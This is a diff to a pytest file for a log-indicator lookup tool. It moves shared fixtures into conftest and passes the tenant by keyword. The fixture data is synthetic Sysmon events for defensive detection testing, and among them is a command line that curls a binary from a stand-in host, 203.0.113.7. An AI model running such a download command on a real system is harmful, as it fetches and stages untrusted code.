@@ -12,7 +12,7 @@ import time
 
 import pytest
 
-from conftest import run
+from conftest import ingest, run
 
 EVENT = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon"}
 
@@ -22,19 +22,8 @@ def event(day, **fields):
 
 
 @pytest.fixture
-def case(tmp_path, monkeypatch):
-    for name in ("XDG_CONFIG_HOME", "XDG_STATE_HOME", "BACKTRAIL_KEYS"):
-        monkeypatch.setenv(name, str(tmp_path / name))
-    monkeypatch.setenv("BACKTRAIL_CASE", str(tmp_path / "case"))
-    monkeypatch.setenv("BACKTRAIL_ACTOR", "ana:Ana:analyst")
-    assert run("case", "init", tmp_path / "case").status == 0
-    return tmp_path / "case"
-
-
-def ingest(path, tenant, *more):
-    done = run("ingest", path, "--tenant", tenant, *more)
-    assert done.status == 0, done.err
-    return done.rows
+def case(empty_case):
+    return empty_case
 
 
 def test_values_of_many_kinds_are_found_inside_of_fields(case, tmp_path):
@@ -43,7 +32,7 @@ def test_values_of_many_kinds_are_found_inside_of_fields(case, tmp_path):
         event(1, Image="C:\\Windows\\Temp\\payload.com", Hashes="SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E"),
         event(2, QueryName="a.b.evil.example", User="ALPHA\\bob"),
         event(3, CommandLine="cmd /c curl http://203.0.113.7:8080/x.bin", TargetObject="HKLM\\Software\\Run\\Evil")]) + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     asked = {("payload.com", "file-name"): 1, ("d41d8cd98f00b204e9800998ecf8427e", "md5"): 1,
              ("evil.example", "domain"): 1, ("203.0.113.0/24", "cidr"): 1, ("alpha\\bob", "user"): 1,
              ("c:\\windows\\temp\\payload.com", "path"): 1, ("hxxp://203.0.113[.]7:8080/x.bin", "url"): 1,
@@ -62,7 +51,7 @@ def test_values_of_many_kinds_are_found_inside_of_fields(case, tmp_path):
 def test_lists_and_intel_are_asked_at_once(case, tmp_path):
     log = tmp_path / "a.jsonl"
     log.write_text(event(1, DestinationIp="203.0.113.7") + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     listed = tmp_path / "list.txt"
     listed.write_text("# a comment\n203.0.113.7\n\n198.51.100.1\n")
     rows = run("lookup", "-f", listed).rows
@@ -87,7 +76,7 @@ def test_wrong_calls_are_told(case, tmp_path):
 def test_a_case_that_cannot_be_written_can_be_asked(case, tmp_path):
     log = tmp_path / "a.jsonl"
     log.write_text(event(1, DestinationIp="203.0.113.7") + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     before = sorted(path.name for path in (case / "sightings/db").iterdir())
     for folder in (case / "sightings/db", case / "sightings"):
         os.chmod(folder, 0o500)
@@ -102,7 +91,7 @@ def test_a_case_that_cannot_be_written_can_be_asked(case, tmp_path):
 def test_a_full_disk_loses_nothing(case, tmp_path):
     log = tmp_path / "a.jsonl"
     log.write_text(event(1, DestinationIp="203.0.113.7") + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     large = tmp_path / "b.jsonl"
     large.write_text("".join(event(1 + i % 28, DestinationHostname=f"h{i}.evil.example") + "\n" for i in range(20000)))
     program = os.path.abspath(os.environ.get("BACKTRAIL", "build/release/backtrail"))
@@ -112,14 +101,14 @@ def test_a_full_disk_loses_nothing(case, tmp_path):
     assert done.returncode in (3, 4), done.stderr
     assert b"error[BT" in done.stderr
     assert run("lookup", "203.0.113.7").rows[0]["count"] == 1
-    ingest(large, "alpha")
+    ingest(large, tenant="alpha")
     assert run("lookup", "evil.example").rows[0]["count"] == 20000
 
 
 def test_a_damaged_index_is_told_and_made_anew(case, tmp_path):
     log = tmp_path / "a.jsonl"
     log.write_text("".join(event(1 + i % 28, DestinationHostname=f"h{i}.evil.example") + "\n" for i in range(5000)))
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     for file in (case / "sightings/db").glob("*.sst"):
         bytes_ = bytearray(file.read_bytes())
         bytes_[100:20000] = b"\xff" * 19900
@@ -135,7 +124,7 @@ def test_what_begins_so_is_found_by_prefix(case, tmp_path):
     log.write_text("".join(event(day, **fields) + "\n" for day, fields in enumerate([
         {"Image": "C:\\ProgramData\\one\\a.exe"}, {"Image": "C:\\ProgramData\\two\\b.exe"}, {"Image": "C:\\ProgramDat\\c.exe"},
         {"DestinationHostname": "a.evil.example"}, {"DestinationHostname": "b.evil.example"}, {"DestinationHostname": "devil.example"}], 1)))
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     row = run("lookup", "C:\\ProgramData\\", "--kind", "path", "--prefix").rows[0]
     assert row["count"] == 2 and row["values"] == 2 and row["first"].startswith("2017-03-01")
     assert run("lookup", "C:\\ProgramData\\", "--kind", "path").rows[0]["count"] == 0
@@ -148,7 +137,7 @@ def test_what_begins_so_is_found_by_prefix(case, tmp_path):
 def test_a_domain_in_its_own_letters_is_asked_in_both_spellings(case, tmp_path):
     log = tmp_path / "a.jsonl"
     log.write_text(event(1, QueryName="www.xn--mnchen-3ya.example") + "\n" + event(2, Host="münchen.example") + "\n" + event(3, QueryName="plain.example") + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     for asked in ("münchen.example", "MÜNCHEN.example", "xn--mnchen-3ya.example", "xn--mnchen-3ya[.]example"):
         done = run("lookup", asked, "--errors", "json")
         rows = {(row["kind"], row["value"]): row for row in done.rows}
@@ -164,11 +153,11 @@ def test_a_domain_in_its_own_letters_is_asked_in_both_spellings(case, tmp_path):
 def test_as_of_answers_with_the_sources_that_there_were(case, tmp_path):
     for name, day in (("a", 1), ("b", 2)):
         (tmp_path / f"{name}.jsonl").write_text(event(day, DestinationIp="203.0.113.7") + "\n")
-    ingest(tmp_path / "a.jsonl", "alpha")
+    ingest(tmp_path / "a.jsonl", tenant="alpha")
     time.sleep(0.01)
     between = datetime.datetime.now(datetime.timezone.utc).isoformat().replace("+00:00", "Z")
     time.sleep(0.01)
-    ingest(tmp_path / "b.jsonl", "beta")
+    ingest(tmp_path / "b.jsonl", tenant="beta")
     assert run("lookup", "203.0.113.7").rows[0]["count"] == 2
     then = run("lookup", "203.0.113.7", "--as-of", between).rows[0]
     assert then["count"] == 1 and [one["tenant"] for one in then["tenants"]] == ["alpha"]
@@ -179,7 +168,7 @@ def test_as_of_answers_with_the_sources_that_there_were(case, tmp_path):
 def test_an_index_of_a_newer_version_is_refused_and_left_as_it_is(case, tmp_path):
     log = tmp_path / "a.jsonl"
     log.write_text(event(1, DestinationIp="203.0.113.7") + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     try:
         rocksdb = ctypes.CDLL(ctypes.util.find_library("rocksdb"))
     except (OSError, TypeError):
@@ -252,7 +241,7 @@ def test_what_cannot_be_meant_is_refused_and_not_answered_no(case, asked):
 def test_an_address_with_its_port_is_asked_as_the_address_and_said_to_be(case, tmp_path, asked, meant):
     log = tmp_path / "a.jsonl"
     log.write_text("".join(event(1, DestinationIp=one) + "\n" for one in ("203.0.113.7", "2001:db8::7", "evil.example")))
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     done = run("lookup", asked, "--errors", "json")
     assert done.status == 0 and done.codes == {"BT0973"}
     assert {(row["value"], row["asked"], row["count"]) for row in done.rows if row["seen"]} == {(meant, asked, 1)}
@@ -269,7 +258,7 @@ def test_what_lists_put_around_a_value_is_left_out_and_said_to_be(case, tmp_path
     log = tmp_path / "a.jsonl"
     log.write_text(event(1, DestinationIp="203.0.113.7", QueryName="evil.example", Computer="SRV01", Image="C:\\Temp\\a b.exe",
                          Hashes="SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E") + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     done = run("lookup", asked, "--errors", "json")
     assert done.status == 0 and done.codes == {"BT0973"} and len(done.errors) == 1, done.err
     row, = [row for row in done.rows if row["kind"] == kind]
@@ -289,7 +278,7 @@ def test_a_trailing_slash_and_a_mapped_address_are_asked_both_ways(case):
 def test_a_list_may_end_its_lines_with_comments(case, tmp_path):
     log = tmp_path / "a.jsonl"
     log.write_text(event(1, DestinationIp="203.0.113.7", Image="C:\\x\\payload #1.exe") + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     listed = tmp_path / "list.txt"
     listed.write_text("203.0.113.0/24 # office\n203.0.113[.]7\t#host\npayload #1.exe\npayload.exe # dropper\n203.0.113.7, # again\n")
     done = run("lookup", "-f", listed, "--errors", "json")
@@ -305,7 +294,7 @@ def test_what_looks_odd_and_is_meant_is_asked(case, tmp_path):
     log = tmp_path / "a.jsonl"
     log.write_text("\n".join([event(1, TargetObject="HKCR\\*\\shell\\evil"), event(2, Url="http://evil.example/a?b=*,203.0.113.7"),
                               event(3, MutexName="a*b"), event(4, UserAgent="what is this?"), event(5, Image="C:\\a, b\\c-d.exe")]) + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     for asked in ("HKCR\\*\\shell", "*.evil.example", "what is this?", "C:\\a, b\\c-d.exe", "c-d.exe"):
         done = run("lookup", asked)
         assert done.status == 0 and any(row["seen"] for row in done.rows), asked
@@ -316,7 +305,7 @@ def test_what_looks_odd_and_is_meant_is_asked(case, tmp_path):
 def test_a_list_says_which_of_its_lines_were_not_asked(case, tmp_path):
     log = tmp_path / "a.jsonl"
     log.write_text(event(1, DestinationIp="203.0.113.7") + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     listed = tmp_path / "list.txt"
     listed.write_bytes(b"\xef\xbb\xbf203.0.113.7\r\n# networks\n203.0.113.0/33\n\n10.0.0.1-10.0.0.9\n203.0.113.9:80\n")
     done = run("lookup", "-f", listed, "--errors", "json")
@@ -332,7 +321,7 @@ def test_computers_are_found_by_their_bare_names(case, tmp_path):
     log.write_text("\n".join([event(1, Computer="SRV01.corp.example"), event(2, Computer="srv01"), event(3, **{"host.name": "SRV01"}),
                               event(4, WorkstationName="\\\\SRV01"), event(5, Image="C:\\srv01"), event(6, Computer="192.0.2.1"),
                               event(7, TargetUserName="SRV01$")]) + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     rows = {row["kind"]: row for row in run("lookup", "Srv01").rows}
     assert rows["host"]["count"] == 4 and rows["host"]["value"] == "srv01"
     assert rows["host"]["fields"] == ["Computer", "WorkstationName", "host.name"]
@@ -364,9 +353,9 @@ def test_what_is_wrong_in_a_table_is_counted_alike_by_whoever_reads_it(case, tmp
 def test_a_replaced_log_that_is_not_in_the_index_any_more_was_not_looked_at(case, tmp_path):
     log = tmp_path / "a.jsonl"
     log.write_text(event(1, DestinationIp="203.0.113.9") + "\n")
-    ingest(log, "alpha")
+    ingest(log, tenant="alpha")
     log.write_text(event(1, DestinationIp="203.0.113.10") + "\n")
-    assert ingest(log, "alpha")[0]["state"] == "corrected"
+    assert ingest(log, tenant="alpha")[0]["state"] == "corrected"
     (row,) = run("lookup", "203.0.113.9").rows
     assert row["seen"] and row["superseded"] == 1 and row["coverage"] == "complete"
     shutil.rmtree(case / "sightings")
@@ -379,7 +368,7 @@ def test_a_replaced_log_that_is_not_in_the_index_any_more_was_not_looked_at(case
     assert [one["what"] for one in told] == ["not-indexed"] and "replaced" in told[0]["is"]
     # Its bytes lie somewhere again: the index made of them knows it.
     (tmp_path / "b.jsonl").write_text(event(1, DestinationIp="203.0.113.9") + "\n")
-    ingest(tmp_path / "b.jsonl", "alpha")
+    ingest(tmp_path / "b.jsonl", tenant="alpha")
     (row,) = run("lookup", "203.0.113.9").rows
     assert row["seen"] and row["coverage"] == "complete"
 
@@ -401,6 +390,6 @@ def test_reasons_stand_where_rows_have_no_room_and_gaps_are_bounded(case, tmp_pa
 
 def test_rules_among_what_is_asked_for_are_not_answered(case, tmp_path, rule):
     (tmp_path / "a.jsonl").write_text(event(1, DestinationIp="203.0.113.9") + "\n")
-    ingest(tmp_path / "a.jsonl", "alpha")
+    ingest(tmp_path / "a.jsonl", tenant="alpha")
     done = run("lookup", "--intel", rule, "--errors", "json")
     assert done.status == 3 and done.codes == {"BT1805"}
